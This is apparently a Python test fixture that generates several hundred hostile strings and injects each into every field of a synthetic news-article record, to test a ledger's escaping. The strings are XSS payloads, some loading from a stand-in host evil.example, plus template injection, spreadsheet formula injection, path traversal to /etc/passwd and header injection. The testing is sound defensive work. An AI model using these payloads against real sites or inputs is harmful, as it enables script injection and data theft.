"""Texts that try to become markup, scripts or addresses: made from parts, several hundred."""

import datetime
import itertools

from onrecord.dates import PartialDate
from onrecord.ledger.ledger import Ledger, store_reading
from onrecord.records import (
    Act,
    Article,
    Attribution,
    Capture,
    Check,
    CheckKind,
    Entity,
    EntityKind,
    Form,
    Hop,
    How,
    Position,
    Proposition,
    Reading,
    Response,
    ResponseKind,
    Role,
    Run,
    Span,
    Stance,
)

_BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</a>",
    "</svg>",
    '" ',
    "' ",
)
_BODIES = (
    "<script>hit=1</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=hit=1>",
    "<svg/onload=hit=1>",
    "<svg><script>hit=1</script></svg>",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<details open ontoggle=hit=1>",
    "<a href=javascript:hit=1>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=form_token>",
    "<math><mi xlink:href=javascript:hit=1>x</mi></math>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div data-hx-on:htmx:load='hit=1'>",
    "<noscript><p title='</noscript><img src=x onerror=hit=1>'>",
    "onmouseover=hit=1 x=",
    "autofocus onfocus=hit=1 x=",
    "style=background:url(//evil.example) x=",
)  # fmt: skip
_OTHERS = (
    "javascript:hit=1", "JaVaScRiPt:hit=1", "java\tscript:hit=1", " javascript:hit=1",
    "data:text/html,<script>hit=1</script>", "vbscript:hit", "//evil.example/x", "\\\\evil.example",
    "{{ 7 * 7 }}", "{% include 'base.html.j2' %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}",
    "&lt;script&gt;hit=1&lt;/script&gt;", "&#x3c;script&#x3e;", "%3Cscript%3Ehit=1%3C/script%3E",
    "＜script＞hit=1＜/script＞", "\u202e<script>hit=1</script>", "<\x00script>hit=1</script>",
    "<scr\x00ipt>", "<!--<script>hit=1</script>-->", "<![CDATA[<script>hit=1</script>]]>",
    "=HYPERLINK(\"//evil.example\")", "+cmd|' /C calc'!A0", "../../../../etc/passwd", "\r\nSet-Cookie: x=1",
)  # fmt: skip


def list_payloads() -> tuple[str, ...]:
    """Every way out of a context with everything that could do harm there, and loners."""
    pairs = ("".join(pair) for pair in itertools.product(_BREAKS, _BODIES))
    return tuple(dict.fromkeys((*pairs, *_OTHERS)))


def make_hostile_reading(payload: str, number: int) -> Reading:
    """A reading that has a payload wherever an article can put its own words."""
    word = "".join("bdfgklmnrt"[int(digit)] + "o" for digit in f"{number:03}")
    name = f"Ann{word} {payload}"
    text = f"{name} said that {payload} {word}m had been {word}st {word}ck. Nobody else spoke."
    article = Article(
        title=f"{payload} t{number}",
        text=text,
        url=payload,
        publisher=f"Post {payload}",
        authors=(payload,),
        published_on=PartialDate(2031, 3, 1 + number % 28),
        language=payload,
    )
    who = Span(0, len(name))
    last = Span(text.rindex("Nobody"), len(text))
    cue = Span(len(name) + 1, len(name) + len(" said"))
    content = Span(cue.end + 1, text.rindex(" Nobody"))
    entity = Entity(article.id, name, EntityKind.PERSON, (who,), (Role(f"chair {payload}", who),))
    saying = Attribution(
        article.id, (cue,), (content,), Form.INDIRECT, Act.SAYS, (who,), entity.id,
        chain=(Hop(entity.id, How.QUOTES, who),), addressee=(who,),
    )  # fmt: skip
    proposition = Proposition(payload, (content,))
    return Reading(
        article=article,
        entities=(entity,),
        attributions=(saying,),
        run=Run(payload, payload, {"min_score": 0.5}),
        responses=(Response(article.id, entity.id, ResponseKind.DENIES, (last,), to_id=saying.id),),
        absences=(),
        positions=(Position(article.id, entity.id, proposition, Stance.OPPOSES, None, (last,)),),
        checks=(Check(article.id, CheckKind.ROLE_CONFLICT, payload, (who, content)),),
    )


def store_hostile(ledger: Ledger) -> list[Reading]:
    """All payloads in a ledger, an article each."""
    found = []
    at = datetime.datetime(2031, 3, 4, tzinfo=datetime.UTC)
    for number, payload in enumerate(list_payloads()):
        reading = make_hostile_reading(payload, number)
        capture = Capture(origin=payload, body=payload.encode(), fetched_at=at, url=payload)
        store_reading(ledger, capture, reading, at)
        found.append(reading)
    return found
